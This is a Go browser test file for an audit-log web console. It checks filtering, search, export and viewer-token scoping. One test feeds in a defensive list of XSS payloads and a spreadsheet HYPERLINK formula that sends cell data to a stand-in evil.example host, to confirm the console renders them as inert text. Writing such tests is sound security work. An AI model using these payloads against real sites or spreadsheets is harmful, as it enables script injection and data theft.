package main

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"image/png"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/cdproto/browser"
	"github.com/chromedp/chromedp"

	"github.com/auditkeep/auditkeep/internal/demo"
)

// chromiumPath finds Chromium. Without it the browser tests skip, except
// under CI=true, where they fail.
func chromiumPath(t *testing.T) string {
	t.Helper()
	for _, p := range []string{os.Getenv("AUDITKEEP_CHROMIUM"), "/usr/bin/chromium", "/usr/bin/chromium-browser"} {
		if p == "" {
			continue
		}
		if _, err := os.Stat(p); err == nil {
			return p
		}
	}
	if p, err := exec.LookPath("chromium"); err == nil {
		return p
	}
	msg := "Chromium is not installed: run `apt-get install -y chromium` (or set AUDITKEEP_CHROMIUM) to run the browser tests"
	if os.Getenv("CI") == "true" {
		t.Fatal(msg)
	}
	t.Skip(msg)
	return ""
}

// newBrowser starts headless Chromium with a fresh profile.
func newBrowser(t *testing.T) context.Context {
	t.Helper()
	opts := append(chromedp.DefaultExecAllocatorOptions[:],
		chromedp.ExecPath(chromiumPath(t)),
		chromedp.NoSandbox,
		chromedp.DisableGPU,
		chromedp.Flag("disable-background-networking", true),
		chromedp.Flag("disable-component-update", true),
		chromedp.Flag("disable-sync", true),
		chromedp.Flag("disable-quic", true),
		chromedp.Flag("no-first-run", true),
		chromedp.WindowSize(1360, 900),
		chromedp.UserDataDir(t.TempDir()),
	)
	actx, cancelAlloc := chromedp.NewExecAllocator(context.Background(), opts...)
	ctx, cancel := chromedp.NewContext(actx)
	t.Cleanup(func() { cancel(); cancelAlloc() })
	if _, err := chromedp.Run(ctx, chromedp.Evaluate[int](`1`)); err != nil {
		t.Fatalf("start Chromium: %v", err)
	}
	return ctx
}

// step runs browser actions with a hang guard.
func step(t *testing.T, ctx context.Context, what string, steps ...chromedp.Action[chromedp.Void]) {
	t.Helper()
	c, cancel := context.WithTimeout(ctx, 60*time.Second)
	defer cancel()
	if err := chromedp.Do(c, steps...); err != nil {
		t.Fatalf("%s: %v", what, err)
	}
}

// navigate runs an action that loads a new page (a click on a link or a
// submit button) and waits until that page has loaded.
func navigate(t *testing.T, ctx context.Context, what string, action chromedp.Action[chromedp.Void]) {
	t.Helper()
	c, cancel := context.WithTimeout(ctx, 60*time.Second)
	defer cancel()
	res, err := chromedp.RunResponse(c, action)
	if err != nil {
		t.Fatalf("%s: %v", what, err)
	}
	if res.Status != 200 {
		t.Fatalf("%s: status %d", what, res.Status)
	}
}

// eval evaluates a JavaScript expression in the page.
func eval[T any](t *testing.T, ctx context.Context, expr string) T {
	t.Helper()
	c, cancel := context.WithTimeout(ctx, 60*time.Second)
	defer cancel()
	v, err := chromedp.Run(c, chromedp.Evaluate[T](expr))
	if err != nil {
		t.Fatalf("evaluate %s: %v", expr, err)
	}
	return v
}

// evalAwait is eval of an expression whose value is a promise: its result.
func evalAwait[T any](t *testing.T, ctx context.Context, expr string) T {
	t.Helper()
	c, cancel := context.WithTimeout(ctx, 60*time.Second)
	defer cancel()
	v, err := chromedp.Run(c, chromedp.Evaluate[T](expr, chromedp.EvalAwaitPromise))
	if err != nil {
		t.Fatalf("evaluate %s: %v", expr, err)
	}
	return v
}

// waitFor polls a JavaScript predicate until it holds.
func waitFor(t *testing.T, ctx context.Context, what, predicate string) {
	t.Helper()
	c, cancel := context.WithTimeout(ctx, 60*time.Second)
	defer cancel()
	if _, err := chromedp.Run(c, chromedp.Poll[chromedp.Void](predicate, chromedp.WithPollingInterval(50*time.Millisecond))); err != nil {
		t.Fatalf("waiting for %s (%s): %v", what, predicate, err)
	}
}

func ingestJSON(t *testing.T, base, key string, events []any) {
	t.Helper()
	for len(events) > 0 {
		n := min(len(events), 500)
		r := call(t, "POST", base+"/v1/events", key, map[string]any{"events": events[:n]})
		if r.status != 200 {
			t.Fatalf("ingest: %d %s", r.status, r.body)
		}
		events = events[n:]
	}
}

// seedDemo ingests a day and a half of a realistic platform's history.
func seedDemo(t *testing.T, base, key string) {
	t.Helper()
	now := time.Now().UTC()
	gen := demo.New(7, now.Add(-36*time.Hour), demo.Options{EventsPerDay: 400})
	var events []any
	for {
		e := gen.Next()
		if e.OccurredAt.After(now) || len(events) >= 600 {
			break
		}
		b, _ := json.Marshal(e)
		var m map[string]any
		json.Unmarshal(b, &m)
		for _, server := range []string{"tenant", "seq", "received_at", "hash"} {
			delete(m, server)
		}
		events = append(events, m)
	}
	ingestJSON(t, base, key, events)
}

func envEvent(id, action, env, name string, snapshot map[string]any) map[string]any {
	e := map[string]any{"id": id, "action": action, "occurred_at": time.Now().UTC().Format(time.RFC3339Nano),
		"actor":  map[string]any{"type": "user", "id": "usr_42", "name": "Alice Martin", "email": "alice@example.com"},
		"target": map[string]any{"type": "environment", "id": env, "name": name},
		"scope": []any{map[string]any{"type": "project", "id": "prj_1", "name": "Shop"},
			map[string]any{"type": "environment", "id": env, "name": name}},
		"team": "platform", "source": "console", "context": map[string]any{"ip": "203.0.113.7", "user_agent": "Mozilla/5.0"}}
	if snapshot != nil {
		e["snapshot"] = snapshot
	}
	return e
}

func TestConsoleInBrowser(t *testing.T) {
	a := testServer(t, Config{})
	base := a.URL()
	key := setupTenant(t, base, "acme")
	seedDemo(t, base, key)
	ingestJSON(t, base, key, []any{
		envEvent("env7-1", "environment.create", "env_7", "production", map[string]any{"name": "prod", "cpu": 1}),
		envEvent("env7-2", "environment.update", "env_7", "production", map[string]any{"name": "production", "cpu": 2}),
		envEvent("env8-1", "environment.update", "env_8", "staging", map[string]any{"name": "staging"}),
	})
	ctx := newBrowser(t)

	t.Run("sign in", func(t *testing.T) {
		signIn(t, ctx, base, key)
		if n := eval[int](t, ctx, `document.querySelectorAll("#rows tr").length`); n != 50 {
			t.Errorf("first page shows %d rows; want 50", n)
		}
		// The newest is the sign-in itself, recorded in the tenant's log.
		if got := eval[string](t, ctx, `document.querySelector("#rows tr .action").textContent`); got != "console.sign_in" {
			t.Errorf("newest row is %q; want console.sign_in", got)
		}
		if got := eval[string](t, ctx, `document.querySelectorAll("#rows tr .action")[1].textContent`); got != "environment.update" {
			t.Errorf("second row is %q; want environment.update (env8-1)", got)
		}
	})

	t.Run("screenshot", func(t *testing.T) {
		c, cancel := context.WithTimeout(ctx, 60*time.Second)
		defer cancel()
		buf, err := chromedp.Run(c, chromedp.CaptureScreenshot())
		if err != nil {
			t.Fatal(err)
		}
		if _, err := png.Decode(bytes.NewReader(buf)); err != nil {
			t.Fatalf("screenshot is not a PNG: %v", err)
		}
		out := filepath.Join(t.TempDir(), "console.png")
		if os.Getenv("AUDITKEEP_UPDATE_SCREENSHOT") == "1" {
			out = filepath.Join("..", "..", "docs", "console.png")
			os.MkdirAll(filepath.Dir(out), 0o755)
		}
		if err := os.WriteFile(out, buf, 0o644); err != nil {
			t.Fatal(err)
		}
	})

	t.Run("filter", func(t *testing.T) {
		step(t, ctx, "filter by type",
			chromedp.Navigate(base+"/"),
			chromedp.WaitVisible(chromedp.CSS("#events")),
			chromedp.Click(chromedp.CSS("details.more summary")),
			chromedp.SetValue(chromedp.CSS("#type"), "delete"),
		)
		// The old page has #events too: wait for the navigation itself.
		navigate(t, ctx, "apply the filter", chromedp.Click(chromedp.CSS("#apply")))
		loc := eval[string](t, ctx, `location.search`)
		if !strings.Contains(loc, "type=delete") {
			t.Errorf("URL after filtering = %q; want type=delete in it (a link)", loc)
		}
		n := eval[int](t, ctx, `document.querySelectorAll("#rows tr").length`)
		bad := eval[int](t, ctx, `Array.from(document.querySelectorAll("#rows tr .badge")).filter(b => b.textContent !== "delete").length`)
		if n == 0 || bad != 0 {
			t.Errorf("type=delete shows %d rows, %d of another type; want some, all deletes", n, bad)
		}
	})

	t.Run("search", func(t *testing.T) {
		step(t, ctx, "search",
			chromedp.Navigate(base+"/"),
			chromedp.WaitVisible(chromedp.CSS("#q")),
			chromedp.SendKeys(chromedp.CSS("#q"), `actor:alice@example.com action:environment.*`),
		)
		navigate(t, ctx, "search", chromedp.Click(chromedp.CSS("#apply")))
		got := eval[string](t, ctx, `Array.from(document.querySelectorAll("#rows tr")).map(r => r.dataset.id).join(",")`)
		if got != "env8-1,env7-2,env7-1" {
			t.Errorf("search shows %q; want env8-1,env7-2,env7-1", got)
		}
	})

	t.Run("details", func(t *testing.T) {
		step(t, ctx, "open details",
			chromedp.Navigate(base+"/?target_id=env_7"),
			chromedp.WaitVisible(chromedp.CSS("#events")),
			chromedp.Click(chromedp.CSS(`#rows tr[data-id="env7-2"] a.action`)),
			chromedp.WaitVisible(chromedp.CSS("#fields")),
		)
		snap := eval[string](t, ctx, `document.querySelector("#snapshot").textContent`)
		var m map[string]any
		if err := json.Unmarshal([]byte(snap), &m); err != nil || m["name"] != "production" {
			t.Errorf("snapshot block %q is not the event's JSON", snap)
		}
		cmp := eval[string](t, ctx, `Array.from(document.querySelectorAll("#compare-table tbody tr")).map(r => r.innerText.replace(/\s+/g, " ").trim()).join("|")`)
		if want := "cpu cpu changed from 1 to 2 1 2|name name changed from 'prod' to 'production' prod production"; cmp != want {
			t.Errorf("comparison with the previous event = %q; want %q", cmp, want)
		}
	})

	t.Run("quick filter link", func(t *testing.T) {
		// From the details page, the target's link opens its events.
		step(t, ctx, "follow the target link",
			chromedp.Click(chromedp.CSS(`#fields a[href*="target_id=env_7"]`)),
			chromedp.WaitVisible(chromedp.CSS("#events")),
		)
		q := eval[string](t, ctx, `location.search`)
		v, _ := url.ParseQuery(strings.TrimPrefix(q, "?"))
		if v.Get("target_id") != "env_7" || v.Get("target_type") != "environment" {
			t.Errorf("quick filter opened %q; want target_type=environment&target_id=env_7", q)
		}
		if got := eval[string](t, ctx, `Array.from(document.querySelectorAll("#rows tr")).map(r => r.dataset.id).join(",")`); got != "env7-2,env7-1" {
			t.Errorf("quick filter view shows %q; want env7-2,env7-1", got)
		}
		if got := eval[string](t, ctx, `document.querySelector("#target_id").value`); got != "env_7" {
			t.Errorf("target picker shows %q; want env_7 selected", got)
		}
	})

	t.Run("live", func(t *testing.T) {
		step(t, ctx, "live mode",
			chromedp.Navigate(base+"/?target_id=env_live"),
			chromedp.WaitVisible(chromedp.CSS("#live")),
			chromedp.Click(chromedp.CSS("#live")),
		)
		waitFor(t, ctx, "the stream to open", `document.querySelector("#live-status").textContent.startsWith("Live")`)
		ingestJSON(t, base, key, []any{envEvent("live-1", "environment.update", "env_8", "staging", nil),
			envEvent("live-2", "environment.deploy", "env_live", "canary", nil)})
		waitFor(t, ctx, "the live row", `document.querySelector("#rows tr.new") !== null`)
		if got := eval[string](t, ctx, `Array.from(document.querySelectorAll("#rows tr")).map(r => r.dataset.id).join(",")`); got != "live-2" {
			t.Errorf("live rows = %q; want live-2 only (it matches the filter, live-1 does not)", got)
		}
	})

	t.Run("export", func(t *testing.T) {
		dir := t.TempDir()
		step(t, ctx, "open the view", chromedp.Navigate(base+"/?target_id=env_7"), chromedp.WaitVisible(chromedp.CSS("#export-csv")))
		progress := chromedp.Events(ctx, browser.DownloadProgress)
		step(t, ctx, "download",
			chromedp.Func(func(ctx context.Context, _ *chromedp.Target) error {
				_, err := chromedp.Call(ctx, browser.SetDownloadBehavior, browser.SetDownloadBehaviorParams{
					Behavior: browser.SetDownloadBehaviorBehaviorAllowAndName, DownloadPath: dir, EventsEnabled: ptrTo(true)})
				return err
			}),
			chromedp.Click(chromedp.CSS("#export-csv")),
		)
		var guid string
		for ev, err := range progress {
			if err != nil {
				t.Fatal(err)
			}
			if ev.State == browser.DownloadProgressStateCompleted {
				guid = ev.GUID
				break
			}
			if ev.State == browser.DownloadProgressStateCanceled {
				t.Fatal("download canceled")
			}
		}
		b, err := os.ReadFile(filepath.Join(dir, guid))
		if err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
		if err != nil || len(rows) != 3 {
			t.Fatalf("downloaded CSV %q: %v; want a header and 2 rows", b, err)
		}
		ids := rows[1][1] + "," + rows[2][1]
		if ids != "env7-2,env7-1" {
			t.Errorf("exported ids %s; want env7-2,env7-1", ids)
		}
	})

	t.Run("export with a reason", func(t *testing.T) {
		if r := call(t, "PUT", base+"/v1/settings", key, map[string]any{"require_export_reason": true}); r.status != 200 {
			t.Fatalf("require export reasons: %d %s", r.status, r.body)
		}
		defer call(t, "PUT", base+"/v1/settings", key, map[string]any{"require_export_reason": false})
		step(t, ctx, "open the view", chromedp.Navigate(base+"/?target_id=env_7"), chromedp.WaitVisible(chromedp.CSS("#export-reason")))
		if ok := eval[bool](t, ctx, `document.querySelector("#export-reason").required`); !ok {
			t.Error("the reason field is not required")
		}
		// The form sends the view's filters, the format and the reason: fetch
		// what submitting it would download.
		got := evalAwait[string](t, ctx, `(() => {
			const f = document.querySelector("#export-form");
			document.querySelector("#export-reason").value = "case INC-7";
			const q = new URLSearchParams(new FormData(f));
			q.set("format", "csv");
			return fetch("/export?" + q).then(r => r.text().then(b => r.status + " " + b.trim().split("\n").length));
		})()`)
		if got != "200 3" {
			t.Errorf("export with a reason = %q; want 200 and a header with 2 rows", got)
		}
		if got := evalAwait[string](t, ctx, `fetch("/export?format=csv&target_id=env_7").then(r => String(r.status))`); got != "400" {
			t.Errorf("export without a reason = %s; want 400", got)
		}
		r := call(t, "GET", base+"/v1/events?action=export.run&limit=1", key, nil)
		evs, _ := r.json(t)["events"].([]any)
		if len(evs) != 1 {
			t.Fatalf("export.run records: %s", r.body)
		}
		md, _ := evs[0].(map[string]any)["metadata"].(map[string]any)
		if md["reason"] != "case INC-7" || md["format"] != "csv" || !strings.Contains(fmt.Sprint(md["query"]), "target_id=env_7") {
			t.Errorf("export.run metadata = %v; want the reason, csv and the view's filter", md)
		}
	})

	t.Run("viewer token", func(t *testing.T) {
		r := call(t, "POST", base+"/v1/viewer-tokens", key, map[string]any{"filters": map[string]any{"target_id": "env_7"}, "ttl_seconds": 600})
		if r.status != 201 {
			t.Fatalf("viewer token: %d %s", r.status, r.body)
		}
		vt := r.json(t)["token"].(string)
		step(t, ctx, "sign out", chromedp.Navigate(base+"/"), chromedp.Click(chromedp.CSS(`form[action="/signout"] button`)), chromedp.WaitVisible(chromedp.CSS("#key")))
		step(t, ctx, "open the viewer", chromedp.Navigate(base+"/?viewer_token="+url.QueryEscape(vt)), chromedp.WaitVisible(chromedp.CSS("#events")))
		if got := eval[string](t, ctx, `Array.from(document.querySelectorAll("#rows tr")).map(r => r.dataset.id).join(",")`); got != "env7-2,env7-1" {
			t.Errorf("viewer shows %q; want env7-2,env7-1", got)
		}
		if got := eval[string](t, ctx, `document.querySelector(".locked").textContent.replace(/\s+/g, " ")`); !strings.Contains(got, "Target environment production (env_7)") {
			t.Errorf("locked filters shown as %q", got)
		}
		step(t, ctx, "ask for another target", chromedp.Navigate(base+"/?target_id=env_8&viewer_token="+url.QueryEscape(vt)), chromedp.WaitVisible(chromedp.CSS("#events")))
		if n := eval[int](t, ctx, `document.querySelectorAll("#rows tr").length`); n != 0 {
			t.Errorf("viewer asking for env_8 sees %d rows; want 0", n)
		}
		step(t, ctx, "open an outside event", chromedp.Navigate(base+"/events/env8-1?viewer_token="+url.QueryEscape(vt)), chromedp.WaitVisible(chromedp.CSS("main")))
		if got := eval[string](t, ctx, `document.querySelector("h1").textContent`); got != "Not found" {
			t.Errorf("viewer opening env8-1 sees %q; want Not found", got)
		}
		c, cancel := context.WithTimeout(ctx, 60*time.Second)
		defer cancel()
		n, err := chromedp.Run(c, chromedp.Evaluate[int](`fetch("/v1/events?viewer_token=`+url.QueryEscape(vt)+`").then(r => r.json()).then(p => p.events.filter(e => e.target.id !== "env_7").length)`, chromedp.EvalAwaitPromise))
		if err != nil || n != 0 {
			t.Errorf("the viewer's API answer holds %d events of other targets (%v); want 0", n, err)
		}
	})
}

func ptrTo[T any](v T) *T { return &v }

// TestConsoleHostileContent: events whose every text field is an attack
// render as inert text in the browser.
func TestConsoleHostileContent(t *testing.T) {
	a := testServer(t, Config{})
	base := a.URL()
	key := setupTenant(t, base, "acme")
	payloads := []string{
		`<script>window.__pwned=1</script>`,
		`<img src=x onerror="window.__pwned=2;document.title='pwned'">`,
		`javascript:window.__pwned=3`,
		`"><svg onload="window.__pwned=4">`,
		`<a href="javascript:window.__pwned=5">click</a><b>bold</b>`,
		`=HYPERLINK("http://evil.example/?"&A1,"x")`,
		`</textarea></pre></script><iframe src="javascript:parent.__pwned=6"></iframe>`,
	}
	hostile := func(i int, p string) map[string]any {
		return map[string]any{
			"id": fmt.Sprintf("x%d", i), "action": "environment.update", "occurred_at": time.Now().UTC().Format(time.RFC3339Nano),
			"actor":  map[string]any{"type": "user", "id": p, "name": p, "email": "mallory@evil.example"},
			"target": map[string]any{"type": "environment", "id": "env_x", "name": p},
			"scope":  []any{map[string]any{"type": "project", "id": "prj_x", "name": p}, map[string]any{"type": "environment", "id": "env_x", "name": p}},
			"team":   p, "source": "console", "description": p, "status": "failure",
			"context":  map[string]any{"ip": "198.51.100.7", "user_agent": p},
			"changes":  []any{map[string]any{"field": p, "old": p, "new": p}},
			"snapshot": map[string]any{p: p, "nested": map[string]any{"html": p}},
			"metadata": map[string]any{"note": p},
		}
	}
	var events []any
	for i, p := range payloads {
		events = append(events, hostile(i, p))
	}
	ingestJSON(t, base, key, events)
	ctx := newBrowser(t)
	signIn(t, ctx, base, key)
	step(t, ctx, "go live", chromedp.Click(chromedp.CSS("#live")))
	waitFor(t, ctx, "the stream to open", `document.querySelector("#live-status").textContent.startsWith("Live")`)
	ingestJSON(t, base, key, []any{hostile(100, payloads[1]), hostile(101, payloads[0])})
	waitFor(t, ctx, "the live rows", `document.querySelectorAll("#rows tr.new").length === 2`)
	check := func(where string) {
		t.Helper()
		if pwned := eval[bool](t, ctx, `window.__pwned !== undefined`); pwned {
			t.Errorf("%s: a payload ran (window.__pwned = %v)", where, eval[any](t, ctx, `window.__pwned`))
		}
		if title := eval[string](t, ctx, `document.title`); strings.Contains(title, "pwned") {
			t.Errorf("%s: the title changed to %q", where, title)
		}
		if n := eval[int](t, ctx, `document.querySelectorAll("main img, main svg, main iframe, main script, main b").length`); n != 0 {
			t.Errorf("%s: %d elements came from event content", where, n)
		}
		if n := eval[int](t, ctx, `Array.from(document.querySelectorAll("a")).filter(a => !a.getAttribute("href").startsWith("/") && a.getAttribute("href") !== "#main").length`); n != 0 {
			t.Errorf("%s: %d links lead outside the console", where, n)
		}
	}
	if n := eval[int](t, ctx, `Array.from(document.querySelectorAll("#rows tr")).filter(r => r.textContent.includes("<script>window.__pwned=1</script>")).length`); n < 2 {
		t.Errorf("the script payload is shown as text in %d rows; want it in the table as text", n)
	}
	check("table with live rows")
	for _, id := range []string{"x0", "x1", "x3", "x6"} {
		step(t, ctx, "details "+id, chromedp.Navigate(base+"/events/"+id), chromedp.WaitVisible(chromedp.CSS("#fields")))
		check("details of " + id)
	}
	// Clicking a quick-filter link built from a javascript: value stays a filter.
	step(t, ctx, "follow the actor link", chromedp.Navigate(base+"/events/x2"), chromedp.WaitVisible(chromedp.CSS("#fields")),
		chromedp.Click(chromedp.CSS(`#fields a[href^="/?actor="]`)), chromedp.WaitVisible(chromedp.CSS("#events")))
	check("after following a hostile link")
	if got := eval[string](t, ctx, `new URLSearchParams(location.search).get("actor")`); got != payloads[2] {
		t.Errorf("actor link opened actor=%q; want the payload as a filter value", got)
	}
	r := call(t, "GET", base+"/signin", "", nil)
	csp := r.header.Get("Content-Security-Policy")
	if !strings.Contains(csp, "script-src 'self'") || strings.Contains(csp, "unsafe-inline") {
		t.Errorf("CSP = %q; want script-src 'self' without unsafe-inline", csp)
	}
}
